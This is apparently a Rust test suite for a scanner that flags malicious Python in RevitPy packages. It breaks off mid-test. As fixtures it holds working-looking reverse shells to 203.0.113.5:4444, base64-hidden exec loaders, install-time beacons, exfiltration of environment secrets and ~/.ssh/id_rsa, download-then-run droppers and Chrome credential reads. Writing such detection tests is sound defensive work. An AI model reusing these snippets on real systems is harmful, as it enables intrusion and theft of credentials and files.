//! What the scanner reports on small sources written for the purpose:
//! malicious patterns, absurd nesting, performance impact, decoded
//! payloads, bulk uploads, hooks. (The repository's examples, which need
//! their manifests read by the format crate, are scanned in revitpy-check's
//! tests/examples.rs.)

use revitpy_scan::report::{RiskLevel, Severity};
use revitpy_scan::{Entry, ManifestFacts, scan};

#[test]
fn malicious_patterns_are_blocked() {
    let cases: &[(&str, &str)] = &[
        ("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n", "exec-decoded"),
        ("import urllib.request as u\nexec(u.urlopen('http://x.example.invalid/p').read())\n", "exec-downloaded"),
        ("from os import system as s\nimport codecs\ns(codecs.decode('rpub', 'rot13'))\n", "process-decoded"),
        (
            "import socket, subprocess\ns = socket.socket()\ns.connect(('203.0.113.5', 4444))\nsubprocess.call(['/bin/sh', '-i'])\n",
            "reverse-shell",
        ),
        (
            "import winreg\nk = winreg.CreateKey(winreg.HKEY_CURRENT_USER, 'Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run')\nwinreg.SetValueEx(k, 'x', 0, 1, 'c:\\\\x.exe')\n",
            "persistence-registry",
        ),
        ("import os\ngetattr(os, 'sys' + 'tem')(''.join(map(chr, [108, 115])))\n", "process-decoded"),
        ("print 'py2'\nexec ''.join(reversed('1)(tnirp'))\n", "exec-decoded"),
    ];
    for (src, rule) in cases {
        let entries = [Entry { path: "evil.py", bytes: src.as_bytes() }];
        let report = scan(&ManifestFacts { name: "evil".into(), ..ManifestFacts::default() }, &entries);
        assert!(report.risk_level >= RiskLevel::High, "{rule}: {src}\n{:#?}", report.findings);
        assert!(report.findings.iter().any(|f| f.rule == *rule), "{rule} missing: {:#?}", report.findings);
    }
    let pyc = [Entry { path: "hidden.pyc", bytes: b"\x00\x01" }];
    assert!(scan(&ManifestFacts::default(), &pyc).risk_level >= RiskLevel::High);
}

#[test]
fn absurd_nesting_is_a_finding_not_a_crash() {
    // Deep enough to overflow a recursive walk on a 2 MiB stack. Brackets
    // around a number name nothing that could run and hold no text: medium
    // (see `deep_but_inert`); text built that deep, or code run, high.
    for (src, level) in [
        (format!("x = {}1{}\n", "(".repeat(50_000), ")".repeat(50_000)), RiskLevel::Medium),
        (format!("x = {}\n", vec!["'a'"; 50_000].join(" + ")), RiskLevel::High),
        (format!("exec({}'x'{})\n", "f(".repeat(20_000), ")".repeat(20_000)), RiskLevel::High),
    ] {
        let report = std::thread::Builder::new()
            .stack_size(2 * 1024 * 1024)
            .spawn(move || scan(&ManifestFacts::default(), &[Entry { path: "deep.py", bytes: src.as_bytes() }]))
            .unwrap()
            .join()
            .expect("the scan does not overflow the stack");
        assert!(
            report.findings.iter().any(|f| f.rule == "excessive-nesting" && f.because[0].starts_with("not read:")),
            "{:#?}",
            report.findings
        );
        assert_eq!(report.risk_level, level, "{:#?}", report.findings);
    }
}

#[test]
fn impact_counts_events_import_time_work_and_heavy_imports() {
    let impact = |src: &str, hooks: Vec<String>| {
        let entries = [Entry { path: "startup.py", bytes: src.as_bytes() }];
        let facts =
            ManifestFacts { name: "x".into(), declared_impact: "low".into(), hooks, ..ManifestFacts::default() };
        scan(&facts, &entries)
    };
    let idle = impact("def on_idle(sender, args):\n    pass\n__revit__.Idling += on_idle\n", vec![]);
    assert_eq!(idle.impact.computed, "high", "{:?}", idle.impact);
    assert!(idle.impact.reasons.iter().any(|r| r.contains("Idling")), "{:?}", idle.impact.reasons);
    assert!(idle.findings.iter().any(|f| f.rule == "impact-understated"), "declared low, looks high");

    let opened = impact("def h(s, a):\n    pass\napp.add_DocumentOpened(h)\n", vec![]);
    assert_eq!(opened.impact.computed, "medium", "{:?}", opened.impact);

    let loop_at_import =
        impact("import json\ncache = {}\nfor i in range(1000):\n    cache[i] = json.dumps(i)\n", vec![]);
    assert_eq!(loop_at_import.impact.computed, "medium", "{:?}", loop_at_import.impact);
    assert!(loop_at_import.impact.reasons.iter().any(|r| r.contains("import time")));

    let heavy = impact("import numpy as np\n", vec![]);
    assert_eq!(heavy.impact.computed, "high");

    let hooks = impact("x = 1\n", vec!["hooks/post_install.py".into()]);
    assert_eq!(hooks.impact.computed, "medium");

    let quiet = impact("def run(doc):\n    return doc.Title\n", vec![]);
    assert_eq!(quiet.impact.computed, "low", "{:?}", quiet.impact);
    assert!(!quiet.findings.iter().any(|f| f.rule == "impact-understated"));
}

#[test]
fn decoded_payloads_are_read_and_show_in_the_report() {
    let src = "import base64\nexec(base64.b64decode('aW1wb3J0IHVybGxpYi5yZXF1ZXN0CnVybGxpYi5yZXF1ZXN0LnVybG9wZW4oJ2h0dHA6Ly8yMDMuMC4xMTMuOS9zdGFnZTInKQo='))\n";
    let report = scan(&ManifestFacts::default(), &[Entry { path: "loader.py", bytes: src.as_bytes() }]);
    assert!(report.findings.iter().any(|f| f.rule == "exec-decoded"), "{:#?}", report.findings);
    assert!(
        report.capabilities.network.iter().any(|n| n.contains("203.0.113.9/stage2")),
        "the hidden download shows: {:?}",
        report.capabilities
    );
    assert!(
        report.findings.iter().any(|f| f.file == "loader.py:2 (decoded)" && f.rule == "network"),
        "{:#?}",
        report.findings
    );
}

#[test]
fn walked_files_sent_out_are_a_bulk_upload() {
    let upload = |url: &str| {
        let src = format!(
            "import os, requests\nfor root, dirs, files in os.walk(os.path.expanduser('~')):\n    for f in files:\n        with open(os.path.join(root, f), 'rb') as fh:\n            requests.post('{url}', files={{'f': fh}})\n"
        );
        scan(&ManifestFacts::default(), &[Entry { path: "sync.py", bytes: src.as_bytes() }])
    };
    let company = upload("https://backup.example.com/upload");
    let f = company.findings.iter().find(|f| f.rule == "bulk-upload").expect("reported");
    assert_eq!(f.severity, Severity::Medium);
    let raw_ip = upload("http://203.0.113.50/u");
    let f = raw_ip.findings.iter().find(|f| f.rule == "bulk-upload").expect("reported");
    assert_eq!(f.severity, Severity::High);
}

#[test]
fn hooks_that_run_code_and_assemblies_from_odd_paths_are_reported() {
    let facts =
        ManifestFacts { name: "x".into(), hooks: vec!["hooks/post_install.py".into()], ..ManifestFacts::default() };
    let hook = b"import subprocess\nsubprocess.run(['regsvr32', '/s', 'x.dll'])\n";
    let report = scan(&facts, &[Entry { path: "hooks/post_install.py", bytes: hook }]);
    assert!(
        report.findings.iter().any(|f| f.rule == "hook-runs-code" && f.message.contains("starts processes")),
        "{:#?}",
        report.findings
    );

    let clr = b"import clr, os, tempfile\nclr.AddReference('RevitAPI')\nclr.AddReference(os.path.join(tempfile.gettempdir(), 'x.dll'))\n";
    let report = scan(&ManifestFacts::default(), &[Entry { path: "a.py", bytes: clr }]);
    let odd: Vec<usize> = report.findings.iter().filter(|f| f.rule == "clr-odd-path").map(|f| f.line).collect();
    assert_eq!(odd, [3], "only the path from the temp folder: {:#?}", report.findings);

    let write = b"open('report.csv', 'w').write('a,b')\n";
    let report = scan(&ManifestFacts::default(), &[Entry { path: "w.py", bytes: write }]);
    assert!(report.findings.iter().any(|f| f.rule == "file-write" && f.severity == Severity::Info));
}

/// Sockets and processes in one file, as HTTP libraries, servers and terminal
/// tools have them, are not a reverse shell (issue 19: `requests`, `urllib3`,
/// `werkzeug` and `pexpect` were critical); the socket handed to a shell is.
#[test]
fn a_reverse_shell_is_a_socket_handed_to_a_shell_not_a_socket_beside_a_process() {
    let benign = [
        // An HTTP client: checks a socket's descriptor, starts a helper with a `cmd` variable.
        "import socket, subprocess, select\n\
         def is_connection_dropped(conn):\n    sock = socket.create_connection(('example.org', 80))\n    \
         return select.select([sock.fileno()], [], [], 0.0)[0]\n\
         def run(cmd):\n    return subprocess.check_output(cmd, stdin=subprocess.PIPE)\n",
        // A server that forks workers and passes them a listening socket's number.
        "import socket, os, subprocess\n\
         def serve(addr):\n    s = socket.socket()\n    s.bind(addr)\n    s.listen(5)\n    \
         os.environ['LISTEN_FD'] = str(s.fileno())\n    subprocess.Popen(['gunicorn-worker'])\n",
        // A supervisor handing its worker (the interpreter, with fixed code;
        // a command its caller names) socketpairs for its standard streams.
        "import os, socket, subprocess, sys\n\
         def fork_exec(req, out):\n    os.dup2(req.fileno(), 0)\n    os.dup2(out.fileno(), 1)\n    \
         os.execv(sys.executable, [sys.executable, '-c', 'import worker; worker.main()'])\n\
         def spawn(command):\n    a, b = socket.socketpair()\n    \
         return subprocess.Popen([*command, '--comm=x'], stdout=b.fileno(), stderr=b.fileno())\n",
        // A test suite filling descriptors with copies of a connection in one
        // function, starting a process in another.
        "import socket, os, subprocess\n\
         def fill(conn):\n    for i in range(0, 256):\n        os.dup2(conn.fileno(), i)\n\
         def child():\n    return subprocess.run(['python', '-c', 'pass'], stdout=subprocess.PIPE)\n\
         def listen():\n    return socket.create_server(('127.0.0.1', 0))\n",
        // A gateway that connects to its JVM and, elsewhere, kills it with
        // one command through `cmd /c`: the shell runs that command and exits.
        "import socket, subprocess\n\
         def connect(port):\n    s = socket.socket()\n    s.connect(('127.0.0.1', port))\n    return s\n\
         def kill(proc):\n    subprocess.Popen(['cmd', '/c', 'taskkill', '/f', '/t', '/pid', str(proc.pid)])\n",
        // A VPN helper asking PowerShell for one answer (`-Command`) beside
        // a socket that checks an address is local.
        "import socket, subprocess\n\
         def dns():\n    return subprocess.check_output(['powershell', '-NonInteractive', '-Command', 'Get-DnsClientServerAddress'])\n\
         def islocal(ip):\n    s = socket.socket()\n    s.connect((ip, 0))\n",
        // A model server's manager: probes a port with a socket in one
        // function, pipes a vendor's install script into `sh` in another
        // (the shell reads that script to its end and exits).
        "import socket, subprocess\n\
         def is_port_open(host, port):\n    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:\n        \
         s.connect((host, port))\n        return True\n\
         def install(script):\n    subprocess.run(['sh'], input=script, capture_output=True, text=True)\n",
    ];
    for src in benign {
        let report = scan(&ManifestFacts::default(), &[Entry { path: "lib.py", bytes: src.as_bytes() }]);
        assert!(!report.findings.iter().any(|f| f.rule == "reverse-shell"), "{src}\n{:#?}", report.findings);
    }
    let shells = [
        "import socket, os, subprocess\ns = socket.socket()\ns.connect(('203.0.113.5', 4444))\n\
         os.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nsubprocess.call(['/bin/sh', '-i'])\n",
        "import socket, subprocess\ns = socket.socket()\ns.connect(('203.0.113.5', 4444))\n\
         subprocess.Popen(['cmd.exe'], stdin=s.fileno(), stdout=s.fileno())\n",
        "import socket, pty, os\ns = socket.create_connection(('203.0.113.5', 4444))\n\
         [os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]\npty.spawn('/bin/bash')\n",
        // In one function.
        "import socket, os, subprocess\ndef shell(host):\n    s = socket.socket()\n    s.connect((host, 4444))\n    \
         for fd in (0, 1, 2):\n        os.dup2(s.fileno(), fd)\n    subprocess.call(['/bin/sh', '-i'])\n",
        // Connected with `create_connection`, a shell's pipes pumped to and
        // from the socket.
        "import socket, subprocess\ndef main():\n    s = socket.create_connection(('203.0.113.5', 4444))\n    \
         r = s.makefile('rb')\n    p = subprocess.Popen(['cmd.exe'], stdin=subprocess.PIPE, stdout=subprocess.PIPE)\n    \
         while True:\n        p.stdin.write(r.read(1))\n",
    ];
    for src in shells {
        let report = scan(&ManifestFacts::default(), &[Entry { path: "evil.py", bytes: src.as_bytes() }]);
        assert!(report.findings.iter().any(|f| f.rule == "reverse-shell"), "{src}\n{:#?}", report.findings);
        assert_eq!(report.risk_level, RiskLevel::Critical);
    }
    // Each command a socket receives handed to a new shell as its input:
    // not a shell on the socket's streams, but what the socket sends still
    // runs, and another rule says so.
    let per_command = "import socket, subprocess\ndef main():\n    s = socket.socket()\n    \
                       s.connect(('203.0.113.5', 4444))\n    while True:\n        cmd = s.recv(1024)\n        \
                       out = subprocess.run(['sh'], input=cmd, capture_output=True)\n        s.send(out.stdout)\n";
    let report = scan(&ManifestFacts::default(), &[Entry { path: "evil.py", bytes: per_command.as_bytes() }]);
    assert!(report.risk_level >= RiskLevel::High, "{:#?}", report.findings);
}

/// Install-time beacons (issue 19): who and where a package is installed,
/// sent home while it installs. Written for this test, not taken from a sample.
#[test]
fn an_install_time_beacon_is_critical_and_the_same_call_at_run_time_is_not() {
    let beacon = "import getpass, socket, os, json\n\
                  from urllib import request\n\
                  from setuptools import setup\n\
                  def ping():\n    info = {'u': getpass.getuser(), 'h': socket.gethostname(), 'd': os.getcwd()}\n    \
                  request.urlopen(request.Request('https://collector.example.invalid/i', data=json.dumps(info).encode()))\n\
                  ping()\n\
                  setup(name='thing', version='1.0')\n";
    let report = scan(&ManifestFacts::default(), &[Entry { path: "setup.py", bytes: beacon.as_bytes() }]);
    let f =
        report.findings.iter().find(|f| f.rule == "install-beacon").unwrap_or_else(|| panic!("{:#?}", report.findings));
    assert_eq!((f.severity, report.risk_level), (Severity::Critical, RiskLevel::Critical));

    // An environment variable naming the user, sent by requests: the same.
    let env = "import os, requests\nrequests.post('http://203.0.113.9/b', json={'who': os.environ['USERNAME']})\n";
    let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/setup.py", bytes: env.as_bytes() }]);
    assert!(report.findings.iter().any(|f| f.rule == "install-beacon"), "{:#?}", report.findings);
    // Deeper in the tree, a module named `setup.py` (a CLI's `setup`
    // command, beside its other commands): pip never runs it.
    let command = env.replace("requests.post(", "def run():\n    requests.post(");
    let report =
        scan(&ManifestFacts::default(), &[Entry { path: "pkg/cli/commands/setup.py", bytes: command.as_bytes() }]);
    assert!(!report.findings.iter().any(|f| f.rule == "install-beacon"), "{:#?}", report.findings);
    assert!(report.risk_level < RiskLevel::High, "{:#?}", report.findings);

    // From an rpyx install hook: a beacon too.
    let hooked = ManifestFacts { hooks: vec!["hooks/post_install.py".into()], ..ManifestFacts::default() };
    let hook = "import platform, requests\nrequests.post('https://collector.example.invalid', data=platform.node())\n";
    let report = scan(&hooked, &[Entry { path: "hooks/post_install.py", bytes: hook.as_bytes() }]);
    assert!(report.findings.iter().any(|f| f.rule == "install-beacon" && f.severity == Severity::Critical));

    // The same call in a library function a user calls: reported, not a
    // threat. (At a module's top level it runs on import: see
    // `a_beacon_at_import_is_high_and_the_same_send_on_request_is_not`.)
    let called = hook.replace("requests.post(", "def send():\n    requests.post(");
    let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/telemetry.py", bytes: called.as_bytes() }]);
    let f = report.findings.iter().find(|f| f.rule == "host-identity-sent").expect("reported");
    assert_eq!(f.severity, Severity::Medium);
    assert!(report.risk_level < RiskLevel::High, "{:#?}", report.findings);
}

/// A downloaded file made executable and a line added to the shell's
/// start-up file (issue 19's download-then-run chains). Written for the test.
#[test]
fn a_download_made_executable_and_a_login_hook_are_reported() {
    let src = "import os, stat, urllib.request\n\
               data = urllib.request.urlopen('http://203.0.113.7/tool').read()\n\
               with open('/tmp/.helper', 'wb') as f:\n    f.write(data)\n\
               os.chmod('/tmp/.helper', os.stat('/tmp/.helper').st_mode | stat.S_IEXEC)\n\
               rc = open(os.path.expanduser('~/.bashrc'), 'a')\n";
    let report = scan(&ManifestFacts::default(), &[Entry { path: "setup.py", bytes: src.as_bytes() }]);
    let rules: Vec<&str> = report.findings.iter().map(|f| f.rule).collect();
    assert!(rules.contains(&"download-then-run"), "{rules:?}");
    assert_eq!(report.risk_level, RiskLevel::Critical);
    let rc = "import os\nwith open('/home/u/.bashrc', 'a') as f:\n    f.write('~/.x &')\n";
    let report = scan(&ManifestFacts::default(), &[Entry { path: "x.py", bytes: rc.as_bytes() }]);
    assert!(report.findings.iter().any(|f| f.rule == "persistence-shell-startup" && f.severity == Severity::High));
    // Reading a shell start-up file, or making a file executable that was not
    // downloaded, is neither.
    // In a temporary folder (a development shell's ZDOTDIR), no login reads it.
    let zdotdir = "import os, tempfile\ntmpdir = tempfile.TemporaryDirectory()\n\
                   with open(os.path.join(tmpdir.name, '.zshrc'), 'w') as f:\n    f.write('source ~/.zshrc')\n";
    let report = scan(&ManifestFacts::default(), &[Entry { path: "dev.py", bytes: zdotdir.as_bytes() }]);
    assert!(!report.findings.iter().any(|f| f.rule == "persistence-shell-startup"), "{zdotdir}");
    let home = zdotdir.replace("tmpdir.name", "os.path.expanduser('~')");
    let report = scan(&ManifestFacts::default(), &[Entry { path: "dev.py", bytes: home.as_bytes() }]);
    assert!(report.findings.iter().any(|f| f.rule == "persistence-shell-startup"), "{home}");
    let benign = "import os\nprint(open('/home/u/.bashrc').read())\nos.chmod('run.sh', 0o755)\n";
    let report = scan(&ManifestFacts::default(), &[Entry { path: "x.py", bytes: benign.as_bytes() }]);
    assert!(report.risk_level < RiskLevel::High, "{:#?}", report.findings);
}

/// Where secrets go sets the level (issue 19): to an address the code spells
/// out or hides it is critical; to one only configuration names, a secret
/// variable is a cloud SDK signing in to its own service (medium) and a
/// credential store or the whole environment is high.
#[test]
fn sending_secrets_is_critical_when_the_code_chose_where() {
    let chosen = [
        "import os, requests\nHOOK = 'https://collector.example.invalid/x'\nrequests.post(HOOK, data=os.getenv('AWS_SECRET_ACCESS_KEY'))\n",
        "import os, requests, base64\nu = base64.b64decode('aHR0cHM6Ly9ldmlsLmV4YW1wbGU=').decode()\nrequests.post(u, json=dict(os.environ))\n",
        "import os, socket\ns = socket.socket()\ns.connect(('203.0.113.5', 443))\ns.sendall(str(dict(os.environ)).encode())\n",
    ];
    for src in chosen {
        let report = scan(&ManifestFacts::default(), &[Entry { path: "x.py", bytes: src.as_bytes() }]);
        assert!(
            report.findings.iter().any(|f| f.rule == "exfiltration" && f.severity == Severity::Critical),
            "{src}\n{:#?}",
            report.findings
        );
    }
    let configured = "import os\nclass Client:\n    def __init__(self, endpoint, session):\n        \
                      self.endpoint, self.session = endpoint, session\n    \
                      def call(self):\n        token = os.getenv('SERVICE_API_TOKEN')\n        \
                      return self.session.post(self.endpoint, headers={'Authorization': token})\n";
    let report = scan(&ManifestFacts::default(), &[Entry { path: "client.py", bytes: configured.as_bytes() }]);
    let f =
        report.findings.iter().find(|f| f.rule == "exfiltration").unwrap_or_else(|| panic!("{:#?}", report.findings));
    assert_eq!(f.severity, Severity::Medium);
    // The same client sending the whole environment, or a store it read.
    for payload in ["dict(os.environ)", "open(os.path.expanduser('~/.ssh/id_rsa')).read()"] {
        let src = configured.replace("headers={'Authorization': token}", &format!("data={payload}"));
        let report = scan(&ManifestFacts::default(), &[Entry { path: "client.py", bytes: src.as_bytes() }]);
        let f = report.findings.iter().find(|f| f.rule == "exfiltration").unwrap_or_else(|| panic!("{src}"));
        assert_eq!(f.severity, Severity::High, "{src}");
    }
    // One value read out of an alias of the environment is that value, not
    // the environment (twilio's `environment.get(...)`): a secret here.
    let alias = "import os\nclass C:\n    def __init__(self, endpoint, session, environment=None):\n        \
                 environment = environment or os.environ\n        \
                 self.token = environment.get('SERVICE_AUTH_TOKEN')\n        \
                 self.region = environment.get('SERVICE_REGION')\n        \
                 self.endpoint, self.session = endpoint, session\n    \
                 def call(self):\n        return self.session.post(self.endpoint, data=self.region, auth=self.token)\n";
    let report = scan(&ManifestFacts::default(), &[Entry { path: "client.py", bytes: alias.as_bytes() }]);
    let f =
        report.findings.iter().find(|f| f.rule == "exfiltration").unwrap_or_else(|| panic!("{:#?}", report.findings));
    assert_eq!(f.severity, Severity::Medium, "{f:#?}");
    assert!(f.message.contains("credentials or secrets"), "{f:#?}");
}

/// A payload decoded from an install-time file runs at install too: the
/// beacon inside `exec(b64decode(...))` in setup.py is an install beacon.
#[test]
fn a_payload_decoded_in_setup_py_runs_at_install_time() {
    let inner =
        "import getpass, requests\nrequests.post('https://collector.example.invalid', data=getpass.getuser())\n";
    let encoded = base64_of(inner.as_bytes());
    let src = format!("import base64\nexec(base64.b64decode('{encoded}'))\n");
    let report = scan(&ManifestFacts::default(), &[Entry { path: "setup.py", bytes: src.as_bytes() }]);
    let f =
        report.findings.iter().find(|f| f.rule == "install-beacon").unwrap_or_else(|| panic!("{:#?}", report.findings));
    assert!(f.file.starts_with("setup.py:") && f.file.ends_with("(decoded)"), "{}", f.file);
}

/// Standard base64, written here so the test needs no crate for it.
fn base64_of(bytes: &[u8]) -> String {
    const A: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let b = [chunk[0], *chunk.get(1).unwrap_or(&0), *chunk.get(2).unwrap_or(&0)];
        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(A[(n >> (18 - 6 * i) & 63) as usize] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

/// Each high or critical verdict carries the chain of facts behind it: when
/// the code runs, what the call handles, where it goes; lower findings carry
/// none. Written for the test.
#[test]
fn verdicts_at_high_and_above_explain_themselves() {
    // A beacon in setup.py: when (install time), what (host identity), where
    // (the literal address).
    let beacon = "import socket, requests\nrequests.post('http://203.0.113.9/b', data=socket.gethostname())\n";
    let report = scan(&ManifestFacts::default(), &[Entry { path: "setup.py", bytes: beacon.as_bytes() }]);
    let f = report.findings.iter().find(|f| f.rule == "install-beacon").expect("a beacon");
    let chain = f.because.join("\n");
    assert!(chain.contains("while the package installs"), "{chain}");
    assert!(chain.contains("user, host or folder name"), "{chain}");
    assert!(chain.contains("`http://203.0.113.9/b`"), "{chain}");

    // Decoded code run inside a function: when says which function.
    let hidden = "import base64\ndef go():\n    exec(base64.b64decode('cHJpbnQoMSk='))\n";
    let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/run.py", bytes: hidden.as_bytes() }]);
    let f = report.findings.iter().find(|f| f.rule == "exec-decoded").expect("exec-decoded");
    assert!(f.because[0].starts_with("when: only when `go` (line 2) is called;"), "{:#?}", f.because);
    // Called while the module loads: import time, through the function.
    let called = format!("{hidden}go()\n");
    let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/run.py", bytes: called.as_bytes() }]);
    let f = report.findings.iter().find(|f| f.rule == "exec-decoded").expect("exec-decoded");
    assert!(f.because[0].contains("imported or the script is run: `go` (line 2)"), "{:#?}", f.because);
    assert!(f.because.iter().any(|b| b.starts_with("what: `exec` receives data decoded")), "{:#?}", f.because);

    // At module level: import time.
    let top = "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n";
    let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/run.py", bytes: top.as_bytes() }]);
    let f = report.findings.iter().find(|f| f.rule == "exec-decoded").expect("exec-decoded");
    assert!(f.because[0].contains("module level"), "{:#?}", f.because);

    // A download and a run: the rule names both lines.
    let dropper = "import subprocess, urllib.request\n\
                   urllib.request.urlretrieve('http://203.0.113.7/t.exe', 't.exe')\n\
                   subprocess.Popen(['t.exe'])\n";
    let report = scan(&ManifestFacts::default(), &[Entry { path: "tool.py", bytes: dropper.as_bytes() }]);
    let f = report.findings.iter().find(|f| f.rule == "download-then-run").expect("download-then-run");
    assert!(f.because.iter().any(|b| b.starts_with("downloads: `urllib.request.urlretrieve` at line 2")), "{:#?}", f);
    assert!(f.because.iter().any(|b| b == "runs: `subprocess.Popen` at line 3"), "{:#?}", f);

    // Below high: no chain, and none in the JSON.
    for f in report.findings.iter().filter(|f| f.severity < Severity::High) {
        assert!(f.because.is_empty(), "{f:#?}");
    }
    let json = serde_json::to_value(&report).unwrap();
    let info = json["findings"].as_array().unwrap().iter().find(|f| f["severity"] == "info").expect("an info finding");
    assert!(info.get("because").is_none(), "{info}");

    // In the text report, under the finding.
    let text = revitpy_scan::render::text(&report, Default::default());
    assert!(text.contains("             - runs: `subprocess.Popen` at line 3"), "{text}");
}

/// Compiled Python is judged by what it hides: alone it hides its source
/// (high); beside its source, as a committed `__pycache__` is, Python
/// recompiles from the source (low); an unchecked-hash file (PEP 552) runs
/// in place of the source beside it (high). Headers written for the test.
#[test]
fn compiled_python_is_high_when_it_hides_code_and_low_beside_its_source() {
    let timestamp: &[u8] = b"\xa7\x0d\x0d\x0a\x00\x00\x00\x00\x00\x00\x00\x00\x10\x00\x00\x00\xe3";
    let unchecked: &[u8] = b"\xa7\x0d\x0d\x0a\x01\x00\x00\x00\x01\x02\x03\x04\x05\x06\x07\x08\xe3";
    let checked: &[u8] = b"\xa7\x0d\x0d\x0a\x03\x00\x00\x00\x01\x02\x03\x04\x05\x06\x07\x08\xe3";
    let level = |entries: &[Entry<'_>]| {
        let report = scan(&ManifestFacts::default(), entries);
        let f = report.findings.iter().find(|f| f.rule == "compiled-python").expect("a finding").clone();
        (f.severity, report.risk_level)
    };
    let source = b"def f():\n    return 1\n";
    // The .pyc may come before or after its source.
    for header in [timestamp, checked] {
        let e = [
            Entry { path: "lib/mod/__pycache__/util.cpython-311.pyc", bytes: header },
            Entry { path: "lib/mod/util.py", bytes: source },
        ];
        assert_eq!(level(&e), (Severity::Low, RiskLevel::Low));
        let e = [Entry { path: "util.py", bytes: source }, Entry { path: "util.pyc", bytes: header }];
        assert_eq!(level(&e), (Severity::Low, RiskLevel::Low));
    }
    // No source, where import runs it (`util.pyc` in place of `util.py`):
    // high, whatever the header.
    for header in [timestamp, checked, unchecked] {
        let e = [Entry { path: "lib/mod/util.pyc", bytes: header }];
        assert_eq!(level(&e), (Severity::High, RiskLevel::High));
        // A source of another name is not its source.
        let e = [Entry { path: "lib/mod/util.pyc", bytes: header }, Entry { path: "lib/util.py", bytes: source }];
        assert_eq!(level(&e).0, Severity::High);
        // In `__pycache__` with no source, import never runs it (PEP 3147):
        // hidden code only other code could load, medium.
        let e = [
            Entry { path: "lib/mod/__pycache__/util.cpython-311.pyc", bytes: header },
            Entry { path: "lib/util.py", bytes: source },
        ];
        assert_eq!(level(&e), (Severity::Medium, RiskLevel::Medium));
    }
    // Unchecked: runs in place of the source a reader sees.
    let e = [
        Entry { path: "lib/mod/util.py", bytes: source },
        Entry { path: "lib/mod/__pycache__/util.cpython-311.pyc", bytes: unchecked },
    ];
    assert_eq!(level(&e), (Severity::High, RiskLevel::High));
    // A truncated header is not unchecked: judged by its source alone.
    let e = [Entry { path: "a/__pycache__/b.cpython-39.pyc", bytes: b"\x01" }, Entry { path: "a/b.py", bytes: source }];
    assert_eq!(level(&e).0, Severity::Low);
    // In the legacy place beside its source, Python 3 imports the source
    // (and Python 2 recompiles a stale file): low, unchecked or not.
    let e = [Entry { path: "lib/mod/util.py", bytes: source }, Entry { path: "lib/mod/util.pyc", bytes: unchecked }];
    assert_eq!(level(&e).0, Severity::Low);
    // Before Python 3.7 the same four bytes are a time: a Python 2.7 file
    // (magic 62211) whose time has the unchecked bit pattern is no hash file.
    let py27: &[u8] = b"\x03\xf3\x0d\x0a\x71\x1e\x37\x60\x63\x00\x00\x00";
    let e = [
        Entry { path: "lib/mod/util.py", bytes: source },
        Entry { path: "lib/mod/__pycache__/util.cpython-311.pyc", bytes: py27 },
    ];
    assert_eq!(level(&e).0, Severity::Low);
}

/// What a file does with a credential store decides the level: named in a
/// docstring or passed as an HTTP argument called `cookies`, nothing; read
/// and kept, medium; a developer tool's own configuration read where the
/// file also sends data (a cloud SDK, an upload tool), medium; another
/// program's store (a browser's) read there, high; read and sent to an
/// address in the code, critical. Written for the test.
#[test]
fn credential_stores_are_judged_by_what_the_file_does_with_them() {
    let worst = |src: &str| {
        let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/mod.py", bytes: src.as_bytes() }]);
        report.findings.iter().filter(|f| f.category == "credentials").map(|f| f.severity).max()
    };
    let named = "import requests\ndef get(url, **kw):\n    \"\"\"Pass cookies, headers or auth.\"\"\"\n    \
                 allowed = ('auth', 'cookies', 'headers')\n    return requests.get(url, **{k: kw[k] for k in allowed if k in kw})\n";
    assert_eq!(worst(named), None);
    let kept = "import os, sqlite3\ndef logins():\n    \
                return sqlite3.connect(os.path.join(os.environ['LOCALAPPDATA'], 'Google', 'Chrome', 'User Data', 'Default', 'Login Data'))\n";
    assert_eq!(worst(kept), Some(Severity::Medium));
    let sdk = "import os, configparser, urllib.request\ndef profile():\n    \
               c = configparser.ConfigParser()\n    c.read(os.path.expanduser('~/.aws/credentials'))\n    return c\n\
               def call(url, body):\n    return urllib.request.urlopen(url, body)\n";
    assert_eq!(worst(sdk), Some(Severity::Medium));
    let browser = "import os, shutil, urllib.request\ndef grab():\n    \
                   shutil.copy(os.path.join(os.environ['LOCALAPPDATA'], 'Google', 'Chrome', 'User Data', 'Default', 'Login Data'), 'x.db')\n\
                   def ping(url):\n    return urllib.request.urlopen(url)\n";
    assert_eq!(worst(browser), Some(Severity::High));
    // Whether a profile has its store tests paths; opening one reads it.
    let tested = browser.replace(
        "shutil.copy(os.path.join(os.environ['LOCALAPPDATA'], 'Google', 'Chrome', 'User Data', 'Default', 'Login Data'), 'x.db')",
        "stores = [os.path.join(os.environ['LOCALAPPDATA'], 'Google', 'Chrome', 'User Data', d, 'Login Data') for d in ('Default', 'Profile 1')]\n    \
         return any(os.path.exists(p) for p in stores)",
    );
    assert_eq!(worst(&tested), None, "{tested}");
    let opened = tested.replace("any(os.path.exists(p) for p in stores)", "any(open(p, 'rb').read(4) for p in stores)");
    assert_eq!(worst(&opened), Some(Severity::High), "{opened}");
    // A message that names a store opens nothing.
    let warned = "import warnings, requests\ndef key():\n    warnings.warn('the secret is in the OS keychain')\n\
                  def ping(url):\n    return requests.get(url)\n";
    assert_eq!(worst(warned), None);
    // Nor does an exception's message; a zip archive's `write(path)` reads
    // the file it is given.
    let raised = "import requests\ndef key(p):\n    raise ValueError('no profile in ~/.aws/credentials')\n\
                  def ping(url):\n    return requests.get(url)\n";
    assert_eq!(worst(raised), None, "{raised}");
    let zipped = raised.replace("raise ValueError(", "archive.write(");
    assert_eq!(worst(&zipped), Some(Severity::Medium), "{zipped}");
    // A request object built to read its headers sends nothing; opened, it does.
    let built = browser.replace(
        "def ping(url):\n    return urllib.request.urlopen(url)",
